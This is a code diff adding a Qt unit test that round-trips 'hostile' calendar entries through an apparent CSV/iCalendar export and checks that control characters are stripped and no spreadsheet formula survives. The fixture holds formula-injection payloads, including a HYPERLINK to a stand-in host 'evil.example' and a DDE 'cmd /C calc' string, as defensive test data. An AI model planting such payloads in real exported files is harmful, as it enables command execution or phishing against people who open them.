@@ -30,6 +30,30 @@ const QHash<QString, QString> awkwardEntries = {
     {QStringLiteral("txtDec30"), QStringLiteral("Silvester, \"Party\"; 23:59")},
 };
 
+// Entries that break a careless writer or reader, by settings key: blanks and line breaks
+// at the ends, spreadsheet formulas, the apostrophe that guards them, more text than a day
+// of another file may bring.
+const QHash<QString, QString> hostileEntries = {
+    {QStringLiteral("txtJan0"), QStringLiteral("  Oma  ")},
+    {QStringLiteral("txtJan1"), QStringLiteral("\r\nstarts with CR LF")},
+    {QStringLiteral("txtJan2"), QStringLiteral("line\r\nline\r\n")},
+    {QStringLiteral("txtJan3"), QStringLiteral("\rlone CR\nlone LF\n")},
+    {QStringLiteral("txtJan4"), QStringLiteral("\ttabs\tinside\t")},
+    {QStringLiteral("txtJan5"), QStringLiteral("a, b; \"c\" C:\\x\\ \\n \\, \U0001F382")},
+    {QStringLiteral("txtJan6"), QStringLiteral("=HYPERLINK(\"http://evil.example/?x\",\"click\")")},
+    {QStringLiteral("txtJan7"), QStringLiteral("+1+cmd|' /C calc'!A0")},
+    {QStringLiteral("txtJan8"), QStringLiteral("-2")},
+    {QStringLiteral("txtJan9"), QStringLiteral("@SUM(1,2)")},
+    {QStringLiteral("txtJan10"), QStringLiteral("\t=1")},
+    {QStringLiteral("txtJan11"), QStringLiteral("\r=1")},
+    {QStringLiteral("txtJan12"), QStringLiteral("'tis")},
+    {QStringLiteral("txtJan13"), QStringLiteral("'=1")},
+    {QStringLiteral("txtJan14"), QStringLiteral("''+2 ")},
+    {QStringLiteral("txtJan15"), QStringLiteral("ab ").repeated(3399) + QStringLiteral("ab")},
+    {QStringLiteral("txtJan16"), QStringLiteral(" \u00e9\U0001F438").repeated(3399) + QStringLiteral(" ")},
+    {QStringLiteral("txtFeb28"), QStringLiteral("Leap day")},
+};
+
 MemoryDayEntries awkwardCalendar()
 {
     MemoryDayEntries entries;
@@ -88,6 +112,42 @@ private slots:
         ImportPlan::make(empty, read).apply(empty);
         QCOMPARE(empty.texts, awkwardEntries);
         QVERIFY(ImportPlan::make(calendar, read).isEmpty());
+    }
+
+    // Every hostile entry comes back exactly, but for the control characters, which no file
+    // gets; a spreadsheet reading the file sees no formula.
+    void hostileEntriesComeBackExactly_data() { roundTrip_data(); }
+
+    void hostileEntriesComeBackExactly()
+    {
+        QFETCH(QString, name);
+        const QString file = m_folder.filePath(name);
+        MemoryDayEntries calendar;
+        calendar.texts = hostileEntries;
+        calendar.texts.insert(QStringLiteral("txtDec30"), QStringLiteral("bell\a, escape\x1b, delete\x7f, \x01"));
+        QHash<QString, QString> expected = hostileEntries;
+        expected.insert(QStringLiteral("txtDec30"), QStringLiteral("bell, escape, delete, "));
+        DatesExport::write(calendar, file);
+        const QByteArray bytes = fileContent(file);
+        for (const char byte : bytes)
+            QVERIFY2(byte == '\t' || byte == '\r' || byte == '\n' || (byte >= ' ' && byte != '\x7f') || byte < 0,
+                     qPrintable(QStringLiteral("control byte %1 written").arg(int(byte))));
+
+        const ImportedDates read = DateFileReader::read(file, SlashOrder::Ask, nullptr);
+        MemoryDayEntries empty;
+        ImportPlan::make(empty, read).apply(empty);
+        for (auto it = expected.cbegin(); it != expected.cend(); ++it)
+            QVERIFY2(empty.texts.value(it.key()) == it.value(), qPrintable(it.key()));
+        QCOMPARE(empty.texts.size(), expected.size());
+
+        if (name.endsWith(QLatin1String(".csv"))) {
+            const QString script = QStringLiteral(
+                "import csv, sys\n"
+                "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n"
+                "print(' '.join(row[2][:12] for row in rows[1:] if row[2][:1] in ('=', '+', '-', '@', '\\t', '\\r')) or 'ok')\n");
+            QCOMPARE(readerOutput(QStringLiteral("/usr/bin/python3"), {QStringLiteral("-c"), script, file}).trimmed(),
+                     QStringLiteral("ok"));
+        }
     }
 
     // A second reader of iCalendar files reads the same summaries, and February 29 comes
